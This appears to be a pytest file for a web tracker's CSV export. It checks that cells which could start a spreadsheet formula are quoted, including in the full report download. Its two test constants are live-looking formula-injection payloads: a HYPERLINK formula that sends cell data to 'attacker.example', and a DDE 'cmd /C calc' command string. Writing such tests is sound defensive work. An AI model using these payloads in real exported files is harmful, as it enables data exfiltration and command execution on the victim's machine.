"""CSV exports never hand a spreadsheet a formula: text that could start one is quoted."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from tests.support.report_cases import build_report_cases
from tests.web.counter.conftest import Console
from tracker.db import Database
from tracker.models import Department, Service, ServiceVersion
from web.core.csv_export import safe_cell

HOSTILE_DEPARTMENT = '=HYPERLINK("http://attacker.example/?"&A1,"點我")'
HOSTILE_SERVICE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+886", "'+886"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("社會課", "社會課"),
        ("a=b", "a=b"),
        (-3, -3),  # a number is no formula
        (None, ""),
    ],
)
def test_a_cell_that_could_start_a_formula_is_quoted(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_the_report_export_quotes_hostile_names(console: Console, catalogue_db: Database) -> None:
    build_report_cases(catalogue_db)
    with catalogue_db.transaction() as session:
        department = session.scalar(select(Department).where(Department.code == "social"))
        assert department is not None
        department.name = {"zh-TW": HOSTILE_DEPARTMENT, "en": HOSTILE_DEPARTMENT}
        service = session.scalar(select(Service).where(Service.code == "five-wd"))
        assert service is not None
        for version in session.scalars(
            select(ServiceVersion).where(ServiceVersion.service_id == service.id)
        ):
            version.name = {"zh-TW": HOSTILE_SERVICE, "en": HOSTILE_SERVICE}
    console.login("root")
    response = console.get("/counter/reports.csv?from=2026-04&to=2026-04")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    five_wd = next(r for r in rows if r["服務代碼"] == "five-wd")
    assert five_wd["課室"] == "'" + HOSTILE_DEPARTMENT
    assert five_wd["服務項目"] == "'" + HOSTILE_SERVICE
    # Every text cell of the file starts harmlessly.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
